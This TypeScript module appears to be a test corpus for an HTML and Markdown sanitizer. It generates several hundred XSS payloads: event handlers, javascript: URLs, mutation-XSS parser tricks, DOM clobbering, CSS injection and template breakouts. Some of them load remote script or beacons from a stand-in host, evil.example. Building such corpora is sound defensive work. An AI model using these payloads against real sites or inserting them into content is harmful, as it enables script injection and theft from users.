/** What every payload tries to run; a test that defines it sees whether one of them has. */
const code = "xssRan()";
const beacon = "https://evil.example/p.png";

/** Elements that run something by themselves, without a click. */
const selfRunning: [tag: string, attributes: string, event: string][] = [
  ["img", `src=${beacon}`, "onerror"],
  ["svg", "", "onload"],
  ["body", "", "onload"],
  ["video", `src=${beacon}`, "onerror"],
  ["audio", `src=${beacon}`, "onerror"],
  ["input", "autofocus", "onfocus"],
  ["details", "open", "ontoggle"],
  ["marquee", "", "onstart"],
  ["iframe", "", "onload"],
  ["object", `data=${beacon}`, "onerror"],
  ["select", "autofocus", "onfocus"],
  ["textarea", "autofocus", "onfocus"],
  ["style", "", "onload"],
  ["link", `rel=stylesheet href=${beacon}`, "onerror"],
];

const entities = (text: string) => [...text].map((letter) => `&#${letter.charCodeAt(0)};`).join("");
const mixedCase = (text: string) =>
  [...text].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join("");

const spellings: ((tag: string, attributes: string, event: string) => string)[] = [
  (tag, attributes, event) => `<${tag} ${attributes} ${event}="${code}">`,
  (tag, attributes, event) => `<${mixedCase(tag)} ${attributes} ${mixedCase(event)}='${code}'>`,
  (tag, attributes, event) => `<${tag}/${attributes.replaceAll(" ", "/")}/${event}=${code}>`,
  (tag, attributes, event) => `<${tag}\n${attributes}\t${event}\n=\n"${code}"`,
  (tag, attributes, event) => `<${tag} ${attributes} ${event}="${entities(code)}">`,
  (tag, attributes, event) => `"><${tag} ${attributes} ${event}=\`${code}\`></${tag}>`,
  (tag, attributes, event) => `<x><${tag} a="<" ${attributes} ${event}="${code}//`,
  (tag, attributes, event) => `<<${tag} ${attributes} x${event}="" ${event}="${code}">`,
];

const scriptAddresses = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java\tscript:${code}`,
  `java\nscript:${code}`,
  ` \u0001javascript:${code}`,
  `javascript&colon;${code}`,
  `&#106;avascript:${code}`,
  `&#x6A&#x61&#x76&#x61script:${code}`,
  `javascript://%0a${code}`,
  `data:text/html,<script>parent.${code}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzUmFuKCk8L3NjcmlwdD4=`,
  `vbscript:${code}`,
];

const addressCarriers: ((address: string) => string)[] = [
  (address) => `<a href="${address}">Apply</a>`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>Apply</text></a></svg>`,
  (address) => `<form action="${address}"><button>Apply</button></form>`,
  (address) => `<button form=f formaction="${address}">Apply</button>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<math href="${address}">Apply</math>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `[Apply](${address})`,
  (address) => `[Apply]: ${address} "Apply"`,
];

const image = `<img src=${beacon} onerror=${code}>`;

const scripts = [
  `<script>${code}</script>`,
  `<ScRiPt >${code}</sCrIpT>`,
  `<script\n>${code}</script\n>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${code}</script>`,
  `<svg><script>${entities(code)}</script></svg>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `</script><script>${code}</script>`,
  `<script>/*<!--*/${code}//--></script>`,
  `<script x="</script>">${code}</script>`,
];

const documents = [
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<iframe srcdoc='&lt;img src=x onerror=parent.${code}&gt;'></iframe>`,
  `<iframe src=x srcdoc="<svg onload=parent.${code}>"></iframe>`,
  `<frameset onload=${code}>`,
  `<template><iframe srcdoc="<script>parent.${code}</script>"></iframe></template>`,
  `<base href=//evil.example/>`,
  `<object type=text/html data="data:text/html,<script>parent.${code}</script>"></object>`,
  `<portal src=javascript:${code}></portal>`,
];

const styles = [
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>body{background:url(${beacon})}</style>`,
  `<div style="background:url(${beacon})">x</div>`,
  `<div style="background:url(javascript:${code})">x</div>`,
  `<div style="width:expression(${code})">x</div>`,
  `<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>`,
  `<p style="position:fixed;inset:0;z-index:9999">covers all</p>`,
  `<style>*{x:expression(${code})}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<span style="behavior:url(#default#time2)" onbegin=${code}>x</span>`,
];

/** Change their meaning when they are parsed a second time. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<svg></p><style><a id="</style>${image}">`,
  `<noscript><p title="</noscript>${image}"></noscript>`,
  `<svg><style><!--</style>${image}--></svg>`,
  `<svg><title><template><style></title>${image}</style></template></svg>`,
  `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
  `<select><template><style><a title="</style>${image}"></select>`,
  `<xmp><p title="</xmp>${image}"></xmp>`,
  `<noembed><p title="</noembed>${image}">`,
  `<listing>&lt;img src=1 onerror=${code}&gt;</listing>`,
  `<textarea><p title="</textarea>${image}">`,
  `<title><p title="</title>${image}">`,
  `<plaintext>${image}`,
  `<!--><img src=${beacon} onerror=${code}-->`,
  `<!-- --!>${image} -->`,
  `<![CDATA[>${image}]]>`,
  `<?xml ?>${image}<?`,
  `<svg><foreignObject><math><mi><style>${image}</style></mi></math></foreignObject></svg>`,
  `<table><td><svg><desc><td>${image}</desc></svg></table>`,
  `<p id="&quot;&gt;&lt;img src=x onerror=${code}&gt;">x</p>`,
  `<a title="\`\`onmouseover=${code}">x</a>`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=onmouseover to=${code}></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${code} /><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${code}>#x"></use></svg>`,
  `<svg><image href=${beacon} onerror=${code}></svg>`,
];

/** Put themselves in the place of what a page's own scripts reach for. */
const clobbering = [
  `<form id=document><input name=cookie></form>`,
  `<img name=getElementById>`,
  `<a id=defaultView><a id=defaultView name=x href=javascript:${code}>`,
  `<form><input name=attributes><input name=removeChild></form>`,
  `<form><input name=parentNode></form>`,
  `<img id=localStorage><img id=fetch>`,
  `<iframe name=sessionStorage></iframe>`,
  `<form id=root><output name=innerHTML>${code}</output></form>`,
  `<a id=location href="javascript:${code}">x</a>`,
  `<object id=xssRan></object>`,
];

const markdown = [
  `![x](${beacon})`,
  `![x](x"onerror="${code})`,
  `![${image}](x)`,
  `<javascript:${code}>`,
  `<https://evil.example/" onmouseover="${code}>`,
  `[x](https://evil.example/"onmouseover="${code})`,
  `[x](/profile"onmouseover="${code})`,
  `[x](//evil.example/x)`,
  `[x](/\\evil.example/x)`,
  `[x](</profile> "title\\" onmouseover=\\"${code}")`,
  `[${image}](/profile)`,
  `# ${image}`,
  `> ${image}`,
  `- ${image}`,
  `1. <svg onload=${code}>`,
  `| ${image} |\n|---|\n| ${image} |`,
  `\`\`\`html"onmouseover="${code}\n${image}\n\`\`\``,
  `\`</code>${image}\``,
  `**${image}**`,
  `~~<script>${code}</script>~~`,
  `[x][y]\n\n[y]: javascript:${code}`,
  `<details open ontoggle=${code}>\n\n# x\n\n</details>`,
  `&lt;img src=${beacon} onerror=${code}&gt;`,
  `\\<img src=${beacon} onerror=${code}\\>`,
];

const breakouts = [
  `"-${code}-"`,
  `'-${code}-'`,
  `\`-${code}-\``,
  `";${code};//`,
  `</title><script>${code}</script>`,
  `</textarea>${image}`,
  `</style>${image}`,
  `"}</script>${image}`,
  `{{constructor.constructor('${code}')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the braces are the payload
  "${xssRan()}",
  `<%= ${code} %>`,
  `\\u003cimg src=x onerror=${code}\\u003e`,
  `%3Cimg%20src=x%20onerror=${code}%3E`,
  `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  `＜script＞${code}＜/script＞`,
  `\u2028${code}//`,
];

/** More than 300 ways in which hostile text tries to become script, style, request or a part of the page. */
export const xssPayloads: readonly string[] = [
  ...selfRunning.flatMap(([tag, attributes, event]) => spellings.map((spell) => spell(tag, attributes, event))),
  ...scriptAddresses.flatMap((address) => addressCarriers.map((carry) => carry(address))),
  ...scripts,
  ...documents,
  ...styles,
  ...mutations,
  ...clobbering,
  ...markdown,
  ...breakouts,
];
